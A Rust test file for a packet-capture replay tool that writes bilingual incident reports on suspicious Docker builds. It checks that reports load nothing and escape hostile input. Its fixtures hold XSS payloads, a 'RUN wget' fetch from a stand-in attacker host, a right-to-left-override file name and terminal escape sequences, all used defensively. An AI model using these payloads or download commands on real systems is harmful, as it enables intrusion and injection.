//! `replay --report`: one page that loads nothing, complete in both languages, whatever a capture says.
//!
//! `TW_BLESS=1` rewrites the expected pages; look at them in a browser before they are committed.

use std::fs;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::path::{Path, PathBuf};

use tw_model::Timestamp;
use tw_testkit::{BuildRequest, Conversation, daemon_answer, http_request, to_pcap};

use crate::support::{Lab, Run, check_all, testdata};

/// Scenario, language and format of the pages that are kept.
const KEPT: [(&str, &str, &str); 7] = [
    ("full-chain", "en", "html"),
    ("full-chain", "ja", "html"),
    ("classic-http", "en", "html"),
    ("buildx-grpc", "ja", "html"),
    ("benign-new-dst-no-build", "en", "html"),
    ("full-chain", "en", "md"),
    ("full-chain", "ja", "md"),
];

/// Runs `replay --report` in the capture's own folder, and gives the page.
fn report(lab: &Lab, capture: &Path, lang: &str, format: &str) -> String {
    let path = lab.path(&format!("case.{format}"));
    let run = replay(lab, capture, &["--lang", lang], &path).succeeded();
    assert!(run.text().contains("Report: "), "{}", run.text());
    fs::read_to_string(&path).expect("written")
}

fn replay(lab: &Lab, capture: &Path, more: &[&str], path: &Path) -> Run {
    let output = lab
        .command("replay")
        .arg("--data-dir")
        .arg(lab.data_dir())
        .arg("--report")
        .arg(path)
        .args(more)
        .arg(capture.file_name().expect("a file"))
        .current_dir(capture.parent().expect("a folder"))
        .output()
        .expect("the binary starts");
    Run {
        status: output.status.code(),
        stdout: output.stdout,
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    }
}

fn scenario(name: &str) -> PathBuf {
    testdata(&format!("scenarios/{name}.pcap"))
}

#[test]
fn pages_are_those_that_were_looked_at() {
    let blessing = std::env::var_os("TW_BLESS").is_some();
    check_all(&KEPT, |(name, lang, format)| {
        let page = report(&Lab::learned(), &scenario(name), lang, format);
        let kept = testdata(&format!("reports/{name}.{lang}.{format}"));
        if blessing {
            fs::create_dir_all(kept.parent().expect("a folder")).expect("writable");
            fs::write(&kept, &page).expect("testdata is writable");
        }
        let expected = fs::read_to_string(&kept).unwrap_or_default();
        let same = expected == page;
        let line = expected.lines().zip(page.lines()).position(|(old, new)| old != new);
        (!same)
            .then(|| format!("{}: differs at line {line:?}", kept.display()))
            .into_iter()
            .collect()
    });
}

/// Every element that could load or run something, or lead away.
fn loads(page: &str) -> Vec<&'static str> {
    let page = page.to_lowercase();
    let ways = [
        "<script",
        "<link",
        "<img",
        "<iframe",
        "<object",
        "<embed",
        "<video",
        "<audio",
        "<a ",
        "<form",
        "<base",
        "<use",
        "<image",
        "<foreignobject",
        "<template",
        "<meta http-equiv=\"refresh",
        " src=",
        " href=",
        " srcset=",
        "url(",
        "@import",
        " onload",
        " onerror",
        " style=",
    ];
    ways.into_iter().filter(|way| page.contains(way)).collect()
}

#[test]
fn nothing_is_loaded_and_the_policy_says_so() {
    let page = report(&Lab::learned(), &scenario("full-chain"), "en", "html");
    assert!(loads(&page).is_empty(), "{:?}", loads(&page));
    assert!(page.contains("default-src 'none'; style-src 'sha256-"));
}

#[test]
fn a_responder_finds_what_the_case_is_about() {
    let lab = Lab::learned();
    for (lang, words) in [("en", "never seen to contact"), ("ja", "一度も観測されていない相手")]
    {
        let page = report(&lab, &scenario("full-chain"), lang, "html");
        let owed = [
            words,
            "198.51.100.23",
            "10.10.1.5",
            "node-exporter",
            "http://203.0.113.77/init.sh",
            "0ec729430afe695f820bba6331e905b1b7c00b65693672123d1b81186fdddd78",
            "T1612",
            "M1035",
            "M1030",
            "M1047",
            "M1026",
            "<svg",
            "class=\"marked\"",
            "FROM alpine:3.18",
        ];
        for word in owed {
            assert!(page.contains(word), "{lang}: {word}");
        }
        assert!(page.contains(&format!("<html lang=\"{lang}\">")));
    }
}

/// No English sentence stands in the Japanese page: what is in Latin letters there is data or a name.
#[test]
fn the_japanese_page_is_in_japanese() {
    let page = report(&Lab::learned(), &scenario("full-chain"), "ja", "html");
    let body = page.split("<main>").nth(1).expect("a body");
    for english in [" the ", " was ", " is ", " were ", "contacted"] {
        assert!(!body.to_lowercase().contains(english), "{english}");
    }
}

#[test]
fn where_nothing_is_found_the_page_gives_no_clean_bill() {
    let lab = Lab::learned();
    let capture = scenario("benign-new-dst-no-build");
    let page = report(&lab, &capture, "en", "html");
    assert!(page.contains("no clean bill") && page.contains("local socket"), "{page}");
    assert!(report(&lab, &capture, "ja", "html").contains("安全の証明ではありません"));
}

/// What an attacker can write: into the Dockerfile, tags, agents, names, URLs.
const EVIL: &str = "FROM alpine\n\
    RUN wget http://203.0.113.66/x # </code></pre><script>alert(1)</script>\n\
    RUN echo \"<img src=x onerror=alert(1)>\" ```\n\
    ENV A=\u{202e}txt.exe B=\u{1b}]0;owned\u{7}\u{1b}[2J C=\u{2066}\u{200b}\n\
    # | a | <!-- ]]> {{ 7*7 }} {% raw %} [click](http://203.0.113.66/) <http://203.0.113.66>\n";

fn evil_capture(lab: &Lab) -> PathBuf {
    let at = Timestamp::from_secs_nanos(1_795_558_894, 0);
    let end = |last: u8, port| SocketAddrV4::new(Ipv4Addr::new(10, 10, 1, last), port);
    let request = BuildRequest {
        query: "t=%3Cscript%3Ealert(1)%3C%2Fscript%3E&t=a%E2%80%AEb%7C%60",
        headers: &[("User-Agent", "<b onmouseover=alert(1)>\u{9b}31m|`")],
        dockerfile: EVIL.as_bytes(),
    };
    let answer = daemon_answer(&[
        r#"{"stream":"Step 1/2 : FROM alpine\n"}"#,
        r#"{"stream":"Step 2/2 : RUN wget http://203.0.113.66/x # <script>alert(1)</script>\n"}"#,
        r#"{"aux":{"ID":"sha256:<svg/onload=alert(1)>"}}"#,
    ]);
    let build =
        Conversation::open(end(9, 40_000), end(5, 2375), at).client_sends(&request.to_bytes());
    let server = SocketAddrV4::new(Ipv4Addr::new(203, 0, 113, 66), 80);
    let get = http_request("GET", "/x?<script>\"'", &[("Host", "203.0.113.66")], b"");
    let fetched =
        Conversation::open(end(5, 50_000), server, at.plus(std::time::Duration::from_millis(300)))
            .client_sends(&get)
            .server_sends(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi")
            .close();
    let build = build.wait(std::time::Duration::from_secs(1)).server_sends(&answer).close();
    let packets: Vec<_> = build.into_iter().chain(fetched).collect();
    lab.file("evil.pcap", &to_pcap(&packets))
}

#[test]
fn hostile_text_is_shown_and_does_nothing() {
    let lab = Lab::new();
    let capture = evil_capture(&lab);
    for lang in ["en", "ja"] {
        let page = report(&lab, &capture, lang, "html");
        assert!(page.contains("&lt;script&gt;alert(1)"), "the Dockerfile is shown");
        let markup: String =
            page.split("<style>").next().into_iter().chain(page.split("</style>").nth(1)).collect();
        for way in ["<script", "<img", "<svg/", "<b on", "<!-- "] {
            assert!(!markup.to_lowercase().contains(way), "{way}");
        }
        let bad = |c: &char| {
            (c.is_control() && *c != '\n')
                || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        };
        assert_eq!(page.chars().find(bad), None, "in {lang}");
        assert!(page.contains("\\u{202e}txt.exe") && page.contains("\\u{1b}]0;owned"));
        let text = report(&lab, &capture, lang, "md");
        assert_eq!(text.chars().find(bad), None, "in {lang}");
        for line in text.lines().filter(|line| line.contains("<script")) {
            let outside: String = line.split('`').step_by(2).collect();
            let in_source = line.starts_with("> ") || line.starts_with("  ");
            assert!(in_source || !outside.contains("<script"), "{line}");
        }
    }
}

#[test]
fn the_name_tells_the_format_and_a_place_that_cannot_be_written_is_told_first() {
    let lab = Lab::learned();
    let capture = scenario("full-chain");
    replay(&lab, &capture, &[], &lab.path("case.pdf")).failed(2, &["--report", ".html or .md"]);
    let failed = replay(&lab, &capture, &[], &lab.path("no/such/case.html"));
    assert!(failed.stdout.is_empty());
    failed.failed(1, &["cannot write the report", "no/such/case.html"]);
    let alone = lab.run("replay", ["--lang", "ja", &capture.display().to_string()]);
    assert_eq!(alone.status, Some(2), "{}", alone.stderr);
}

/// A run that fails leaves nothing half written, and what stood there stands.
#[test]
fn a_run_that_fails_leaves_the_old_report() {
    let lab = Lab::learned();
    let path = lab.file("case.html", b"old");
    let broken = lab.file("no.pcap", b"this is no capture");
    assert_eq!(replay(&lab, &broken, &[], &path).status, Some(1));
    assert_eq!(fs::read(&path).expect("there"), b"old");
    let left = fs::read_dir(path.parent().expect("a folder")).expect("a folder");
    let names: Vec<_> =
        left.map(|e| e.expect("an entry").file_name().to_string_lossy().into_owned()).collect();
    assert!(names.iter().all(|name| !name.ends_with(".tmp")), "{names:?}");
}
